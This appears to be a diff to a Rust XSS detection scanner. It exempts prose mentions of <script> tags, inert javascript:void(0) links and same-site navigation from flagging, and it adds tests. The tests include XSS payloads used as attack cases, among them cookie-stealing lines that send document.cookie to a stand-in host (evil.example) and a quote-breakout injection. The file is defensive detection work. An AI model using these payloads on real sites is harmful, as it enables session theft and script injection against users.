@@ -492,7 +492,7 @@ fn tag(b: &[u8], lt: usize, base: usize, hits: &mut Vec<Hit>) -> usize {
     } else {
         end
     };
-    if lower_eq(local, b"script") {
+    if lower_eq(local, b"script") && !script_tag_named(b, lt, ne, end, tag_end) {
         hit(hits, SCRIPT, base, lt, tag_end);
     }
     // "Add an <iframe> only for trusted embeds": a bare tag name loads nothing.
@@ -713,6 +713,11 @@ fn bare_scheme(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
             .take_while(|c| !c.is_ascii_whitespace())
             .any(|c| matches!(c, b'(' | b'`' | b'=' | b'%' | b'&' | b'\\' | b'/'));
         let data = b[s..colon].eq_ignore_ascii_case(b"data");
+        // A do-nothing URL alone is the probe of an injectable link; in a
+        // sentence it is being talked about.
+        if !data && !hidden && inert_script_url(&after[lead..]) && prose_words(b, s, colon) >= 3 {
+            continue;
+        }
         if (ctx && (code || data)) || (code && lead == 0) || hidden {
             let end = colon
                 + 1
@@ -723,6 +728,105 @@ fn bare_scheme(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
             hit(hits, URI, base, s, end);
         }
     }
+}
+
+/// Words after a bare `<script>` that make it a tag talked about ("inline
+/// <script> tags", "a <script> element in the head").
+const TAG_TALK: &[&[u8]] = &[
+    b"tag",
+    b"tags",
+    b"element",
+    b"elements",
+    b"block",
+    b"blocks",
+    b"in",
+    b"inside",
+    b"is",
+    b"are",
+    b"must",
+    b"should",
+    b"will",
+    b"can",
+    b"into",
+    b"at",
+    b"and",
+    b"or",
+    b"that",
+    b"which",
+    b"on",
+    b"from",
+    b"to",
+    b"for",
+    b"with",
+    b"without",
+    b"section",
+    b"sections",
+];
+
+/// Whether the `<script>` at `lt` (name ending at `ne`, tag closing at
+/// `end`) is named in prose rather than opened: no attributes, a blank after
+/// a blank before, then a word of a sentence about markup, and no
+/// `</script` later to close it.
+fn script_tag_named(b: &[u8], lt: usize, ne: usize, end: usize, tag_end: usize) -> bool {
+    if ne != end || tag_end != end + 1 || lt == 0 || b[lt - 1] != b' ' {
+        return false;
+    }
+    if b.get(tag_end) != Some(&b' ') {
+        return false;
+    }
+    let w = &b[tag_end + 1..];
+    let n = w.iter().take_while(|c| c.is_ascii_alphabetic()).count();
+    let word = &w[..n];
+    let closes = memchr::memmem::find_iter(&b[tag_end..], b"</").any(|p| {
+        lower_eq(
+            b.get(tag_end + p + 2..tag_end + p + 8).unwrap_or(&[]),
+            b"script",
+        )
+    });
+    TAG_TALK.iter().any(|t| lower_eq(word, t)) && !closes
+}
+
+/// Alphabetic words of two letters or more around the URL from `s`
+/// (scheme) past `colon`, up to the next blank: the sentence it sits in.
+fn prose_words(b: &[u8], s: usize, colon: usize) -> usize {
+    let e = colon
+        + b[colon..]
+            .iter()
+            .take_while(|c| !c.is_ascii_whitespace())
+            .count();
+    [&b[..s], &b[e..]]
+        .iter()
+        .map(|part| {
+            part.split(|c| !c.is_ascii_alphabetic())
+                .filter(|w| w.len() >= 2)
+                .count()
+        })
+        .sum()
+}
+
+/// Whether the code after `javascript:` does nothing: `void(0)`, `void 0`,
+/// an empty statement. "Is javascript:void(0) bad practice?" talks about it.
+fn inert_script_url(after: &[u8]) -> bool {
+    let body: Vec<u8> = after
+        .iter()
+        .take_while(|c| !matches!(c, b'"' | b'\'' | b'`' | b'>' | b'<' | b'\n'))
+        .filter(|c| !c.is_ascii_whitespace())
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    // Sentence text may follow after a blank: only the first word counts.
+    let first: Vec<u8> = after
+        .iter()
+        .take_while(|c| !c.is_ascii_whitespace() && !matches!(c, b'"' | b'\'' | b'`' | b'>'))
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    let inert = |t: &[u8]| {
+        let t = t.strip_suffix(b";").unwrap_or(t);
+        matches!(
+            t,
+            b"void(0)" | b"void0" | b"void(null)" | b"void(0);" | b"" | b";"
+        )
+    };
+    inert(&first) || (first == b"void" && body.starts_with(b"void0") && inert(&body[..5]))
 }
 
 /// `{{constructor.constructor('alert(1)')()}}` and friends.
@@ -919,6 +1023,33 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
             .all(|c| c.is_ascii_whitespace() || matches!(c, b'(' | b'['))
             || (lead_t.len() == 3 && lower_eq(lead_t, b"new") && lead.len() > 3)
             || form_lead;
+        // `window.location.href = '/checkout?step=2';`: navigation to a
+        // fixed path of the same site reads nothing and runs nothing.
+        let same_site = !needs_call && {
+            // `window.location.href = ...`: the member written after the sink.
+            let mut k = e;
+            if b.get(k) == Some(&b'.') {
+                k += 1 + b[k + 1..]
+                    .iter()
+                    .take_while(|c| c.is_ascii_alphabetic())
+                    .count();
+            }
+            let q = k + b[k..]
+                .iter()
+                .take_while(|c| c.is_ascii_whitespace())
+                .count();
+            let rhs = if b[e - 1] == b'=' {
+                Some(e)
+            } else if b.get(q) == Some(&b'=') && b.get(q + 1) != Some(&b'=') {
+                Some(q + 1)
+            } else {
+                None
+            };
+            rhs.is_some_and(|r| same_site_literal(&b[r..]))
+        };
+        if same_site {
+            continue;
+        }
         let whole = lead_ok && (called || !needs_call) && rest_ok;
         // `${alert}` in a tagged template: [].sort.call`${alert}1337`.
         let templated = s >= 2 && &b[s - 2..s] == b"${";
@@ -926,6 +1057,32 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
             hit(hits, JS, base, if after_quote { p - 1 } else { s }, close);
         }
     }
+}
+
+/// Whether `v` (after an `=`) is one string literal holding a path of the
+/// same site (`'/a?b=1'`, `"#top"`), then the end of the statement.
+fn same_site_literal(v: &[u8]) -> bool {
+    let v = v.trim_ascii_start();
+    let Some(&q) = v.first() else {
+        return false;
+    };
+    if !matches!(q, b'\'' | b'"') {
+        return false;
+    }
+    let Some(len) = memchr::memchr(q, &v[1..]) else {
+        return false;
+    };
+    let lit = &v[1..1 + len];
+    let path = match lit.first() {
+        Some(b'/') => !matches!(lit.get(1), Some(b'/' | b'\\')),
+        Some(b'?' | b'#') => true,
+        _ => false,
+    };
+    let clean = lit
+        .iter()
+        .all(|c| c.is_ascii_alphanumeric() || b"/?#=&-_.%~".contains(c));
+    let tail = v[2 + len..].trim_ascii();
+    path && clean && (tail.is_empty() || tail == b";")
 }
 
 /// CSS that runs script outside a tag: `background:url( javascript:...)`,
@@ -1314,6 +1471,9 @@ fn dom_statement_at(b: &[u8], s: usize, base: usize, hits: &mut Vec<Hit>) {
     }
     let call = b.get(j) == Some(&b'(');
     let assign = b.get(j) == Some(&b'=') && b.get(j + 1) != Some(&b'=');
+    if assign && same_site_literal(&b[j + 1..]) {
+        return;
+    }
     if parts > 0 && (call || assign) {
         let end = (j + 64).min(b.len());
         let mut e = end;
@@ -2031,6 +2191,39 @@ mod tests {
         ] {
             benign(s);
         }
+    }
+
+    #[test]
+    fn markup_and_urls_talked_about() {
+        for t in [
+            "Our CSP blocks inline <script> tags, so load the widget from a file.",
+            "Put the <script> element at the end of the body",
+            "Never trust a <script> inside user content",
+            "Why is javascript:void(0) used in old href attributes?",
+            "links with `javascript: void 0` do nothing",
+            "window.location.href = '/cart?step=3';",
+            "document.location = \"#reviews\";",
+            "location.href='/login'",
+        ] {
+            benign(t);
+        }
+        attack("<script>alert(document.domain)</script>", "xss-script-tag");
+        attack("\"><script> tags</script>", "xss-script-tag");
+        attack("x <script> is alert(1)</script>", "xss-script-tag");
+        attack("javascript:alert(1)", "xss-dangerous-uri");
+        attack("javascript:void(alert(1))", "xss-dangerous-uri");
+        attack(
+            "window.location = '//evil.example/?c=' + document.cookie",
+            "xss-js-injection",
+        );
+        attack(
+            "window.location.href='javascript:alert(1)'",
+            "xss-js-injection",
+        );
+        attack(
+            "';location.href='/x?c='+document.cookie;//",
+            "xss-js-injection",
+        );
     }
 
     #[test]
